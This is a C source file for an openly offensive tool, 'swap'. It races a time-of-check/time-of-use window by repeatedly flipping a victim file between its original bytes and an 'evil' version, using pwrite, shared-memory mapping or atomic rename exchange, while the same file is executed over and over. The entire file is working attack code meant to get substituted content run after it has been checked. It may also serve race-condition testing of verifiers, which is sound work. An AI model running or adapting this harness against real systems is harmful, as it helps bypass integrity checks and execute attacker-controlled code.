/*
 * swap HOW VICTIM OTHER TRIES [PROGRAM [ARGUMENTS]]: one process gives the victim other bytes and its own back, over and over; another starts it all the
 * while, or hands it to PROGRAM. Wanted is the moment between the look at the bytes and their use.
 */
#include "attack.h"
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>

static void flip(const char *victim, const char *content, size_t from, size_t bytes, bool by_map, size_t size) {
  int file = open(victim, O_RDWR | O_CLOEXEC);
  if (file < 0) return; /* it runs just now */
  if (by_map) {
    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (memory != MAP_FAILED) {
      memcpy(memory + from, content + from, bytes);
      munmap(memory, size);
    }
  } else if (pwrite(file, content + from, bytes, (off_t)from) < 0) {
    fprintf(stderr, "write: %s\n", strerror(errno));
  }
  close(file);
}

int main(int argc, char **argv) {
  if (argc < 5) {
    fprintf(stderr, "usage: swap write|map|exchange VICTIM OTHER TRIES [PROGRAM [ARGUMENTS]]\n");
    return 2;
  }
  const char *victim = argv[2];
  char *alone[] = {argv[2], NULL}, *handed[8] = {NULL};
  for (int at = 5; at < argc && at < 11; at++) handed[at - 5] = argv[at];
  if (argc > 5) handed[argc < 11 ? argc - 5 : 6] = argv[2];
  char **words = argc > 5 ? handed : alone;
  size_t bytes, same;
  char *good = whole(victim, &bytes), *evil = whole(argv[3], &same);
  size_t first = 0, last = bytes;
  if (bytes != same) return 2;
  while (first < bytes && good[first] == evil[first]) first++;
  while (last > first && good[last - 1] == evil[last - 1]) last--;
  char other[4200];
  snprintf(other, sizeof other, "%s.new", victim);
  int file = check(open(other, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755), other);
  put(file, evil, bytes);
  close(file);
  pid_t flipper = check(fork(), "fork");
  if (flipper == 0) {
    for (unsigned turn = 0;; turn++) {
      if (strcmp(argv[1], "exchange") == 0) syscall(SYS_renameat2, AT_FDCWD, victim, AT_FDCWD, other, 2);
      else flip(victim, turn % 2 ? good : evil, first, last - first, strcmp(argv[1], "map") == 0, bytes);
      usleep((useconds_t)(rand() % 200));
    }
  }
  for (int left = atoi(argv[4]); left > 0; left--) {
    pid_t child = vfork();
    if (child == 0) {
      execvpe(words[0], words, environ);
      _exit(127);
    }
    if (child > 0) waitpid(child, NULL, 0);
  }
  kill(flipper, SIGKILL);
  waitpid(flipper, NULL, 0);
  return 0;
}
